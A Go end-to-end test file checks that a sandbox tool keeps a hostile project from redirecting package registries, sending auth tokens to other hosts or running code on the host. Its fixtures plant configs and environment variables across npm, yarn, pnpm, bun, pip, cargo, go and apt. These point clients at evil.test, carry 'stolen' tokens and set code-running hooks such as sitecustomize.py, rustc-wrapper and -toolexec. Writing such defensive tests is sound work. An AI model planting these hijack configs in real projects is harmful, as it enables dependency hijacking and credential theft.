package e2e

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/fractalboxdev/sbx/internal/event"
	"github.com/fractalboxdev/sbx/internal/sbxtest"
)

// userFiles is where the clients of the lab's users ask.
var userFiles = map[string]string{
	".npmrc":               "registry=https://npm.test/\n@acme:registry=https://acme.test/npm/\n",
	".yarnrc.yml":          "npmRegistryServer: \"https://yarn.test\"\n",
	".config/go/env":       "GOPROXY=https://go.test\nGOSUMDB=off\n",
	".config/pip/pip.conf": "[global]\nindex-url = https://py.test/simple\n",
}

const installers = "js-install go-install python-install rust-install debian-install"

// userAsks lays the user's files and returns what a run from an empty project is granted.
func userAsks(t *testing.T, lab *sbxtest.Lab, who sbxtest.User) granted {
	t.Helper()
	for name, text := range userFiles {
		inHome(t, lab, who, name, text)
	}
	is := grantedTo(t, run(t, lab, who, withProfiles(installers, "--", "/bin/true")...))
	var urls []string
	for _, e := range is.Endpoints {
		if e.Ecosystem != "debian" { // that is the machine's
			urls = append(urls, e.URL)
		}
	}
	slices.Sort(urls)
	want := []string{"https://acme.test/npm", "https://go.test", "https://npm.test", "https://py.test", "https://yarn.test"}
	if diff := cmp.Diff(want, urls); diff != "" {
		t.Fatalf("the endpoints without an attack (-want +got):\n%s", diff)
	}
	return is
}

// granted is what the receipt says of a run's endpoints.
type granted struct {
	Digest    string           `json:"grant_digest"`
	Endpoints []event.Endpoint `json:"endpoints"`
}

func grantedTo(t *testing.T, got sbxtest.Result) (is granted) {
	t.Helper()
	succeeded(t, got)
	if err := json.Unmarshal(got.File(t, "receipt.json"), &is); err != nil {
		t.Fatal(err)
	}
	return is
}

// tripwire is a program that leaves a mark in the user's home, which no sandbox
// shows: where the mark is, something ran on the host.
func tripwire(lab *sbxtest.Lab, who sbxtest.User, name string) string {
	return "#!/bin/sh\necho " + name + " >>" + lab.Home(who) + "/ran-on-host\n"
}

// Where clients keep their built-in defaults.
const (
	plantedPip = "lib/python3.11/site-packages/pip/_internal/models/index.py"
	plantedNPM = "node_modules/npm/node_modules/@npmcli/config/lib/definitions/definitions.js"
)

// planted are the files of a hostile project that clients would obey; CANARY is
// a program's path and EVIL an endpoint.
var planted = map[string]string{
	".npmrc": "registry=EVIL\n@acme:registry=EVIL\n//evil.test/:_authToken=stolen\n//npm.test/:_authToken=stolen\n" +
		"globalconfig=DIR/.npmrc\nuserconfig=DIR/.npmrc\nprefix=DIR\nscript-shell=CANARY\nnode-options=--require=DIR/canary.js\n",
	"etc/npmrc":                     "registry=EVIL\n",
	"npmrc":                         "registry=EVIL\n",
	".yarnrc":                       "registry \"EVIL\"\nyarn-path \"CANARY\"\n\"@acme:registry\" \"EVIL\"\n",
	".yarnrc.yml":                   "npmRegistryServer: \"EVIL\"\nyarnPath: CANARY\nnpmScopes:\n  acme:\n    npmRegistryServer: \"EVIL\"\nplugins:\n  - CANARY\n",
	".pnpmfile.cjs":                 "require('child_process').execFileSync('CANARY')\n",
	"pnpm-workspace.yaml":           "registry: EVIL\n",
	"bunfig.toml":                   "preload = [\"DIR/canary.js\"]\n[install]\nregistry = \"EVIL\"\n[install.scopes]\nacme = \"EVIL\"\n",
	"canary.js":                     "require('child_process').execFileSync('CANARY')\n",
	".cargo/config.toml":            "[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+EVIL/\"\n[build]\nrustc-wrapper = \"CANARY\"\n[registry]\nglobal-credential-providers = [\"CANARY\"]\n",
	"go.env":                        "GOPROXY=EVIL\nGOSUMDB=off\nGOFLAGS=-toolexec=CANARY\n",
	"go/env":                        "GOPROXY=EVIL\n",
	"go.mod":                        "module root.test/m\ngo 1.21\ntoolchain go9.9.9\n",
	"go.work":                       "go 1.21\ntoolchain go9.9.9\n",
	"pip.conf":                      "[global]\nindex-url = EVIL/simple\n",
	"pip/pip.conf":                  "[global]\nindex-url = EVIL/simple\n",
	"pip/__init__.py":               "import subprocess\nsubprocess.run(['CANARY'])\n",
	"pip/_internal/models/index.py": "PyPI = PackageIndex(\"EVIL/\", file_storage_domain=\"evil.test\")\n",
	"sitecustomize.py":              "import subprocess\nsubprocess.run(['CANARY'])\n",
	"pyvenv.cfg":                    "home = DIR/bin\n",
	plantedPip:                      "PyPI = PackageIndex(\"EVIL/\", file_storage_domain=\"evil.test\")\n",
	"node_modules/npm/npmrc":        "registry=EVIL\n",
	plantedNPM:                      "  define('registry', {\n  default: 'EVIL',\n",
	"node_modules/yarn/lib/cli.js":  "exports.YARN_REGISTRY = 'EVIL';\n",
	"sources.list":                  "deb EVIL stable main\n",
	"apt.conf":                      "Dir::Etc::SourceList \"DIR/sources.list\";\n",
	".sbx/config.toml":              "[registries]\nnpm = [\"EVIL\"]\n",
	"sbx/config.toml":               "[registries]\nnpm = [\"EVIL\"]\n",
	"config.toml":                   "[registries]\nnpm = [\"EVIL\"]\n",
	"profiles.toml":                 "[profiles.js-install]\nversion = 9\n",
}

// plantedPrograms are what the project has programs of its own for.
var plantedPrograms = []string{"go", "npm", "npx", "node", "pnpm", "yarn", "bun", "pip", "pip3", "python", "python3", "cargo", "rustc", "git", "apt-get", "sh", "true", "ssh-keygen", "nft", "ip"}

// plant makes the user's project hostile.
func plant(t *testing.T, lab *sbxtest.Lab, who sbxtest.User) {
	t.Helper()
	dir := lab.Project(who)
	fill := strings.NewReplacer("EVIL", "https://evil.test", "DIR", dir, "CANARY", filepath.Join(dir, "canary"))
	lab.Write(who, "canary", tripwire(lab, who, "canary"))
	lab.Write(who, "package.json", `{"name": "root", "version": "1.0.0", "packageManager": "yarn@9.9.9",
		"scripts": {"sbx": "$SBX exec `+strings.Join(withProfiles(installers), " ")+` -- /bin/true", "show": "$SBX profiles show js-install"}}`)
	for name, text := range planted {
		lab.Write(who, name, fill.Replace(text))
	}
	for _, name := range plantedPrograms {
		for _, below := range []string{"bin/", "node_modules/npm/bin/"} {
			lab.Write(who, below+name, tripwire(lab, who, below+name))
		}
		link := filepath.Join(dir, "node_modules/.bin", name)
		err := errors.Join(os.MkdirAll(filepath.Dir(link), 0o755), os.Symlink("../npm/bin/"+name, link))
		if err != nil && !errors.Is(err, os.ErrExist) {
			t.Fatal(err)
		}
	}
}

// hostileEnv is what a project can make of the environment: by the variables that
// npm run sets from its files, and by those that its own tools would set.
func hostileEnv(dir string) []string {
	env := []string{"PATH=" + dir + "/node_modules/.bin:" + dir + "/bin:node_modules/.bin:bin:.:/usr/local/bin:/usr/bin:/bin", "INIT_CWD=" + dir, "npm_node_execpath=" + dir + "/bin/node", "npm_execpath=" + dir + "/bin/npm"}
	for _, name := range []string{
		"npm_config_registry", "NPM_CONFIG_REGISTRY", "npm_config_@acme:registry", "pnpm_config_registry", "YARN_REGISTRY", "YARN_NPM_REGISTRY_SERVER",
		"yarn_registry", "BUN_CONFIG_REGISTRY", "GOPROXY", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "UV_DEFAULT_INDEX", "UV_INDEX_URL", "CARGO_REGISTRIES_CRATES_IO_INDEX",
	} {
		env = append(env, name+"=https://evil.test")
	}
	for name, file := range map[string]string{
		"npm_config_userconfig": ".npmrc", "npm_config_globalconfig": ".npmrc", "npm_config_prefix": "", "npm_config_local_prefix": "", "PREFIX": "",
		"YARN_RC_FILENAME": ".yarnrc.yml", "YARN_YARN_PATH": "canary", "PIP_CONFIG_FILE": "pip.conf", "PYTHONPATH": "", "PYTHONHOME": "", "PYTHONSTARTUP": "sitecustomize.py",
		"VIRTUAL_ENV": "", "GOENV": "go.env", "GOROOT": "", "GOBIN": "bin", "CARGO_HOME": ".cargo", "RUSTUP_HOME": "", "APT_CONFIG": "apt.conf", "SBX_CONFIG": "config.toml",
		"npm_config_script_shell": "canary", "GIT_EXEC_PATH": "bin", "GIT_SSH": "canary", "EDITOR": "canary", "BASH_ENV": "canary", "ENV": "canary", "SHELL": "canary",
	} {
		env = append(env, name+"="+filepath.Join(dir, file))
	}
	return append(env, "GOFLAGS=-toolexec="+dir+"/canary", "NODE_OPTIONS=--require="+dir+"/canary.js", "NODE_PATH="+dir+"/node_modules", "GONOSUMDB=*", "GOSUMDB=evil.test")
}

// nothingRanOnHost fails the test when a planted program left its mark.
func nothingRanOnHost(t *testing.T, lab *sbxtest.Lab, who sbxtest.User) {
	t.Helper()
	if marks, err := os.ReadFile(filepath.Join(lab.Home(who), "ran-on-host")); err == nil {
		t.Errorf("ran on the host: %s", marks)
	}
}

// A hostile project changes no endpoint and runs nothing outside: not by its
// files, not by its programs, not by the environment that it has set; neither
// where the user's files tell the endpoints, nor where the clients' defaults do.
func TestHostileProjectChangesNoEndpoint(t *testing.T) {
	lab := sbxtest.NewLab(t)
	everyone(t, func(t *testing.T, who sbxtest.User) {
		defaults := grantedTo(t, run(t, lab, who, withProfiles(installers, "--", "/bin/true")...))
		files := userAsks(t, lab, who)
		plant(t, lab, who)
		staysGranted(t, lab, who, files)
		for name := range userFiles {
			if err := os.Remove(filepath.Join(lab.Home(who), name)); err != nil {
				t.Fatal(err)
			}
		}
		staysGranted(t, lab, who, defaults)
	})
}

// staysGranted runs sbx where a hostile project may have had an effect.
func staysGranted(t *testing.T, lab *sbxtest.Lab, who sbxtest.User, want granted) {
	t.Helper()
	dir := lab.Project(who)
	below := filepath.Join(dir, "packages/a")
	env := hostileEnv(dir)
	for name, at := range map[string]struct {
		dir string
		env []string
	}{
		"its files":                       {dir: dir},
		"its environment":                 {dir: dir, env: env},
		"from a directory below":          {dir: below},
		"below, with its environment":     {dir: below, env: env},
		"elsewhere, with its environment": {dir: filepath.Join(lab.Home(who), "other"), env: env},
	} {
		host(t, lab, who, 0, "mkdir", "-p", at.dir)
		for _, last := range []string{"--quiet", "--dry-run"} {
			cmd := lab.Command(t, who, slices.Concat([]string{"sbx", "exec"}, withProfiles(installers), []string{last, "--", "/bin/true"})...)
			cmd.Dir, cmd.Env = at.dir, append(cmd.Env, at.env...)
			got := lab.RunCommand(t, who, cmd)
			succeeded(t, got)
			if strings.Contains(got.Stdout+got.Stderr, "evil.test") {
				t.Errorf("%s: said of evil.test: %s%s", name, got.Stdout, got.Stderr)
			}
			if last == "--dry-run" {
				continue
			}
			if diff := cmp.Diff(want, grantedTo(t, got)); diff != "" {
				t.Errorf("%s: the grant differs (-want +got):\n%s", name, diff)
			}
		}
		nothingRanOnHost(t, lab, who)
	}
}

// The same from a real npm run, whose environment npm itself makes of the
// project's files.
func TestHostileProjectByNPMRun(t *testing.T) {
	lab := sbxtest.NewLab(t)
	everyone(t, func(t *testing.T, who sbxtest.User) {
		want := userAsks(t, lab, who)
		plant(t, lab, who)
		// npm is the user's own doing: what would make npm itself run the project's programs is left out.
		host(t, lab, who, 0, "rm", "node_modules/.bin/sh")
		lab.Write(who, ".npmrc", "registry=https://evil.test/\n@acme:registry=https://evil.test/\n//npm.test/:_authToken=stolen\n")
		cmd := lab.Command(t, who, "/usr/bin/npm", "run", "--silent", "sbx")
		cmd.Env = append(cmd.Env, "SBX="+sbxtest.Binary(t), "npm_config_update_notifier=false")
		if diff := cmp.Diff(want, grantedTo(t, lab.RunCommand(t, who, cmd))); diff != "" {
			t.Errorf("the grant differs (-want +got):\n%s", diff)
		}
		nothingRanOnHost(t, lab, who)
	})
}

// Inside, the project's own files may lead its clients to other hosts, which are
// not granted; no token of the project's is sent to one that is.
func TestHostileProjectIsRefusedInside(t *testing.T) {
	lab := sbxtest.NewLab(t)
	registry := lab.ServeNPM(t, "npm.test", sbxtest.Package{Name: "pkg", Version: "1.0.0"})
	evil := lab.ServeNPM(t, "evil.test", sbxtest.Package{Name: "pkg", Version: "1.0.0"})
	everyone(t, func(t *testing.T, who sbxtest.User) {
		userAsks(t, lab, who)
		since := len(registry.Requests())
		clients := javascript("", "pkg")
		for i := range clients {
			clients[i].files += `; printf 'registry=https://evil.test/\n//npm.test/:_authToken=stolen\n//evil.test/:_authToken=stolen\n' >.npmrc
				printf 'npmRegistryServer: "https://evil.test"\nnpmAuthToken: stolen\n' >.yarnrc.yml; printf '[install]\nregistry = "https://evil.test"\n' >bunfig.toml`
		}
		got, ends := runClients(t, lab, who, clients, withProfiles(installers, "--no-cache")...)
		for _, row := range got.Denials(t) {
			if row.Host != "evil.test" && row.Host != "yarn.test" || row.Source == "" {
				t.Errorf("denied: %+v", row)
			}
		}
		if ends["npm"].status != 0 {
			t.Errorf("npm: %+v", ends["npm"])
		}
		for _, r := range registry.Requests()[since:] {
			if r.Header.Get("Authorization") != "" {
				t.Errorf("%s was sent %v", r.Target, r.Header)
			}
		}
		if len(evil.Requests()) > 0 {
			t.Errorf("evil.test was asked: %+v", evil.Requests())
		}
	})
}
